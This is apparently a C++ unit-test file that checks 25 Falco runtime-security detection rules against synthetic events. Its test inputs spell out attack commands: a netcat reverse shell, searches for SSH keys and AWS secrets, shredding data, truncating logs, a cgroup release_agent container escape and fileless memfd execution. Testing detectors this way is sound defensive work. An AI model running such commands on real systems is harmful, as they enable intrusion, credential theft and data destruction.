// Falco's stable rules, unchanged: they load, and each of the 25 fires once and stays
// quiet once on synthetic events.
#include <fcntl.h>
#include <sys/socket.h>

#include <spawn.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cstdlib>
#include <fstream>
#include <set>

#include "tests/unit/policy/helpers.h"

namespace kata_sentry::policy::test {
namespace {

class FalcoRules : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    auto r = load_rules(sources_or_die({KS_FALCO_RULES}));
    ASSERT_FALSE(r.diagnostics.has_errors()) << diagnostics_text(r);
    load_ = new LoadResult(std::move(r));
  }
  static void TearDownTestSuite() { delete load_; }
  void SetUp() override { engine_ = std::make_unique<Engine>(load_->rules, EngineConfig{}); }

  // What fired is written, one rule name a line, to $KS_FALCO_FIRED_LOG when it is set:
  // EveryRuleFired runs the other tests of this suite in a child with it (ctest runs each test
  // in its own process, so the count cannot live in memory).
  bool fires(const std::string& rule, const Event& e, const Enrichment* x = nullptr) {
    auto names = fired(*engine_, e, x);
    if (const char* log = std::getenv("KS_FALCO_FIRED_LOG")) {
      std::ofstream out(log, std::ios::app);
      for (const auto& n : names) out << n << "\n";
    }
    return has(names, rule);
  }

  static LoadResult* load_;
  std::unique_ptr<Engine> engine_;
};
LoadResult* FalcoRules::load_ = nullptr;

TEST_F(FalcoRules, LoadsUnchangedWith25Rules87Macros49Lists) {
  EXPECT_EQ(load_->rules.rules.size(), 25u);
  EXPECT_EQ(load_->rules.macro_count, 87u);
  EXPECT_EQ(load_->rules.list_count, 49u);
  for (const auto& r : load_->rules.rules) EXPECT_TRUE(r.types.any()) << r.name << " is indexed on no type";
}


TEST_F(FalcoRules, RunShellUntrusted) {
  EXPECT_TRUE(fires("Run shell untrusted", EventBuilder().exec("/bin/sh", {"-c", "id"}).parent("nginx").container("c1")));
  EXPECT_FALSE(fires("Run shell untrusted", EventBuilder().exec("/bin/sh", {"-c", "id"}).parent("bash").container("c1")));
}

TEST_F(FalcoRules, DirectoryTraversalMonitoredFileRead) {
  auto e = EventBuilder().open("/etc/../etc/../etc/shadow").name("php").parent("php-fpm");
  EXPECT_TRUE(fires("Directory traversal monitored file read", e));
  EXPECT_FALSE(fires("Directory traversal monitored file read", EventBuilder().open("/etc/shadow").name("php")));
}

TEST_F(FalcoRules, ReadSensitiveFileTrustedAfterStartup) {
  Enrichment old;
  old.proc_start_ns = 1;  // started long ago
  auto e = EventBuilder().open("/etc/shadow").name("nginx");
  EXPECT_TRUE(fires("Read sensitive file trusted after startup", e, &old));
  Enrichment fresh;
  fresh.proc_start_ns = e.build().time_ns - 1000;
  EXPECT_FALSE(fires("Read sensitive file trusted after startup", e, &fresh));
}

TEST_F(FalcoRules, ReadSensitiveFileUntrusted) {
  EXPECT_TRUE(fires("Read sensitive file untrusted", EventBuilder().open("/etc/shadow").name("python3")));
  EXPECT_FALSE(fires("Read sensitive file untrusted", EventBuilder().open("/etc/shadow").name("sshd")));
}

TEST_F(FalcoRules, SystemUserInteractive) {
  Enrichment x;
  x.user_name = "www-data";
  auto e = EventBuilder().exec("/usr/bin/id").uid(33).parent("bash").ancestor("sshd");
  EXPECT_TRUE(fires("System user interactive", e, &x));
  x.user_name = "alice";
  EXPECT_FALSE(fires("System user interactive", e, &x));
}

TEST_F(FalcoRules, TerminalShellInContainer) {
  Enrichment tty;
  tty.tty = 34816;
  auto e = EventBuilder().exec("/bin/bash").parent("runc:[1:CHILD]").container("c1");
  EXPECT_TRUE(fires("Terminal shell in container", e, &tty));
  Enrichment notty;
  notty.tty = 0;
  EXPECT_FALSE(fires("Terminal shell in container", e, &notty));
}

TEST_F(FalcoRules, ContactK8sApiServerFromContainer) {
  Enrichment x;
  x.sip_name = "kubernetes.default.svc.cluster.local";
  auto e = EventBuilder().connect("10.96.0.1", 443).name("curl").container("c1");
  EXPECT_TRUE(fires("Contact K8S API Server From Container", e, &x));
  EXPECT_FALSE(fires("Contact K8S API Server From Container", EventBuilder().connect("10.96.0.1", 443).name("curl"), &x));
}

TEST_F(FalcoRules, NetcatRemoteCodeExecutionInContainer) {
  EXPECT_TRUE(fires("Netcat Remote Code Execution in Container",
                    EventBuilder().exec("/bin/nc", {"-e", "/bin/sh", "1.2.3.4", "80"}).container("c1")));
  EXPECT_FALSE(fires("Netcat Remote Code Execution in Container",
                     EventBuilder().exec("/bin/nc", {"1.2.3.4", "80"}).container("c1")));
}

TEST_F(FalcoRules, SearchPrivateKeysOrPasswords) {
  EXPECT_TRUE(fires("Search Private Keys or Passwords", EventBuilder().exec("/usr/bin/find", {"/", "-name", "id_rsa"})));
  EXPECT_FALSE(fires("Search Private Keys or Passwords", EventBuilder().exec("/usr/bin/find", {"/", "-name", "x.txt"})));
}

TEST_F(FalcoRules, ClearLogActivities) {
  auto e = EventBuilder().open("/var/log/syslog", O_WRONLY | O_TRUNC).name("bash");
  EXPECT_TRUE(fires("Clear Log Activities", e));
  EXPECT_FALSE(fires("Clear Log Activities", EventBuilder().open("/var/log/syslog", O_WRONLY | O_APPEND).name("bash")));
}

TEST_F(FalcoRules, RemoveBulkDataFromDisk) {
  EXPECT_TRUE(fires("Remove Bulk Data from Disk", EventBuilder().exec("/usr/bin/shred", {"-u", "/data"})));
  EXPECT_FALSE(fires("Remove Bulk Data from Disk", EventBuilder().exec("/bin/rm", {"/tmp/x"})));
}

TEST_F(FalcoRules, CreateSymlinkOverSensitiveFiles) {
  auto e = EventBuilder().type(EventType::symlinkat).path("/etc/shadow").path2("/tmp/s").name("ln");
  EXPECT_TRUE(fires("Create Symlink Over Sensitive Files", e));
  EXPECT_FALSE(fires("Create Symlink Over Sensitive Files",
                     EventBuilder().type(EventType::symlinkat).path("/etc/hosts").path2("/tmp/s").name("ln")));
}

TEST_F(FalcoRules, CreateHardlinkOverSensitiveFiles) {
  auto e = EventBuilder().type(EventType::linkat).path("/etc/shadow").path2("/tmp/h").args({0}).name("ln");
  EXPECT_TRUE(fires("Create Hardlink Over Sensitive Files", e));
  EXPECT_FALSE(fires("Create Hardlink Over Sensitive Files",
                     EventBuilder().type(EventType::linkat).path("/tmp/a").path2("/tmp/h").args({0}).name("ln")));
}

TEST_F(FalcoRules, PacketSocketCreatedInContainer) {
  auto e = EventBuilder().type(EventType::socket).args({AF_PACKET, SOCK_RAW, 0}).name("tcpdump").container("c1");
  EXPECT_TRUE(fires("Packet socket created in container", e));
  EXPECT_FALSE(fires("Packet socket created in container",
                     EventBuilder().type(EventType::socket).args({AF_INET, SOCK_STREAM, 0}).name("curl").container("c1")));
}

TEST_F(FalcoRules, RedirectStdoutStdinToNetworkConnectionInContainer) {
  auto e = EventBuilder().type(EventType::dup).args({3, 1}).res(1).connect("1.2.3.4", 4444).type(EventType::dup).container("c1");
  EXPECT_TRUE(fires("Redirect STDOUT/STDIN to Network Connection in Container", e));
  auto benign = EventBuilder().type(EventType::dup).args({3, 5}).res(5).connect("1.2.3.4", 4444).type(EventType::dup).container("c1");
  EXPECT_FALSE(fires("Redirect STDOUT/STDIN to Network Connection in Container", benign));
}

TEST_F(FalcoRules, LinuxKernelModuleInjectionDetected) {
  auto e = EventBuilder().type(EventType::finit_module).args({3, 0}).name("insmod").container("c1");
  EXPECT_TRUE(fires("Linux Kernel Module Injection Detected", EventBuilder(e).caps(1ull << 21 | 1ull << 16)));
  EXPECT_FALSE(fires("Linux Kernel Module Injection Detected", EventBuilder(e).caps(1ull << 10)));  // CAP_NET_BIND_SERVICE
}

TEST_F(FalcoRules, DebugfsLaunchedInPrivilegedContainer) {
  Enrichment priv;
  priv.privileged = true;
  auto e = EventBuilder().exec("/sbin/debugfs", {"/dev/sda1"}).container("c1");
  EXPECT_TRUE(fires("Debugfs Launched in Privileged Container", e, &priv));
  EXPECT_FALSE(fires("Debugfs Launched in Privileged Container", e));  // privilege unknown: absent
}

TEST_F(FalcoRules, DetectReleaseAgentFileContainerEscapes) {
  const uint64_t admin = 1ull << 21 | 1ull << 1;  // CAP_SYS_ADMIN CAP_DAC_OVERRIDE
  auto e = EventBuilder().open("/sys/fs/cgroup/rdma/release_agent", O_WRONLY).name("sh").container("c1").caps(admin);
  EXPECT_TRUE(fires("Detect release_agent File Container Escapes", e));
  EXPECT_FALSE(fires("Detect release_agent File Container Escapes",
                     EventBuilder().open("/sys/fs/cgroup/rdma/release_agent").name("sh").container("c1").caps(admin)));
  EXPECT_FALSE(fires("Detect release_agent File Container Escapes", EventBuilder(e).caps(1ull << 1)));  // no CAP_SYS_ADMIN
}

TEST_F(FalcoRules, PtraceAttachedToProcess) {
  EXPECT_TRUE(fires("PTRACE attached to process", EventBuilder().type(EventType::ptrace).args({16, 42}).name("gdb")));
  EXPECT_FALSE(fires("PTRACE attached to process", EventBuilder().type(EventType::ptrace).args({2, 42}).name("gdb")));
}

TEST_F(FalcoRules, PtraceAntiDebugAttempt) {
  EXPECT_TRUE(fires("PTRACE anti-debug attempt", EventBuilder().type(EventType::ptrace).args({0, 0}).name("malware")));
  EXPECT_FALSE(fires("PTRACE anti-debug attempt", EventBuilder().type(EventType::ptrace).args({16, 42}).name("gdb")));
}

TEST_F(FalcoRules, FindAwsCredentials) {
  EXPECT_TRUE(fires("Find AWS Credentials", EventBuilder().exec("/usr/bin/grep", {"-r", "aws_secret_access_key", "/"})));
  EXPECT_FALSE(fires("Find AWS Credentials", EventBuilder().exec("/usr/bin/grep", {"-r", "hello", "/"})));
}

TEST_F(FalcoRules, ExecutionFromDevShm) {
  EXPECT_TRUE(fires("Execution from /dev/shm", EventBuilder().exec("/dev/shm/x")));
  EXPECT_FALSE(fires("Execution from /dev/shm", EventBuilder().exec("/usr/bin/x")));
}

TEST_F(FalcoRules, DropAndExecuteNewBinaryInContainer) {
  Enrichment upper;
  upper.exe_upper_layer = true;
  auto e = EventBuilder().exec("/tmp/payload").container("c1");
  EXPECT_TRUE(fires("Drop and execute new binary in container", e, &upper));
  Enrichment lower;
  lower.exe_upper_layer = false;
  EXPECT_FALSE(fires("Drop and execute new binary in container", e, &lower));
}

TEST_F(FalcoRules, DisallowedSshConnectionNonStandardPort) {
  Enrichment tcp;
  tcp.l4proto = "tcp";
  auto e = EventBuilder().connect("8.8.8.8", 443).name("ssh").exepath("/usr/bin/ssh");
  EXPECT_TRUE(fires("Disallowed SSH Connection Non Standard Port", e, &tcp));
  auto std_port = EventBuilder().connect("8.8.8.8", 22).name("ssh").exepath("/usr/bin/ssh");
  EXPECT_FALSE(fires("Disallowed SSH Connection Non Standard Port", std_port, &tcp));
  auto private_net = EventBuilder().connect("10.1.2.3", 443).name("ssh").exepath("/usr/bin/ssh");
  EXPECT_FALSE(fires("Disallowed SSH Connection Non Standard Port", private_net, &tcp));
}

TEST_F(FalcoRules, FilelessExecutionViaMemfdCreate) {
  EXPECT_TRUE(fires("Fileless execution via memfd_create", EventBuilder().exec("memfd:payload").parent("bash")));
  EXPECT_FALSE(fires("Fileless execution via memfd_create",
                     EventBuilder().exec("memfd:runc_cloned:/proc/self/exe").name("runc").parent("containerd-shim")));
}

// Each of the 25 rules fired in at least one of the tests above, counted from what fired (the
// rule names the engine returned), not from how many tests there are: the other tests of the
// suite run in a child process that logs every rule that fired.
TEST_F(FalcoRules, EveryRuleFired) {
  ASSERT_EQ(load_->rules.rules.size(), 25u);
  char log[] = "/tmp/ks-falco-fired-XXXXXX";
  int fd = ::mkstemp(log);
  ASSERT_GE(fd, 0);
  ::close(fd);
  std::string env_log = std::string("KS_FALCO_FIRED_LOG=") + log;
  std::string filter = "--gtest_filter=FalcoRules.*:-FalcoRules.EveryRuleFired";
  char* argv[] = {const_cast<char*>("policy_test"), filter.data(), nullptr};
  char* envp[] = {env_log.data(), nullptr};
  pid_t pid = 0;
  ASSERT_EQ(::posix_spawn(&pid, "/proc/self/exe", nullptr, nullptr, argv, envp), 0);
  int status = 0;
  ASSERT_EQ(::waitpid(pid, &status, 0), pid);
  EXPECT_TRUE(WIFEXITED(status) && WEXITSTATUS(status) == 0) << "the suite's other tests failed in the child";
  std::set<std::string> fired_rules;
  std::ifstream in(log);
  for (std::string line; std::getline(in, line);) fired_rules.insert(line);
  ::unlink(log);
  for (const auto& r : load_->rules.rules)
    EXPECT_TRUE(fired_rules.contains(r.name)) << "no test made '" << r.name << "' fire";
  EXPECT_EQ(fired_rules.size(), 25u);
}

}  // namespace
}  // namespace kata_sentry::policy::test
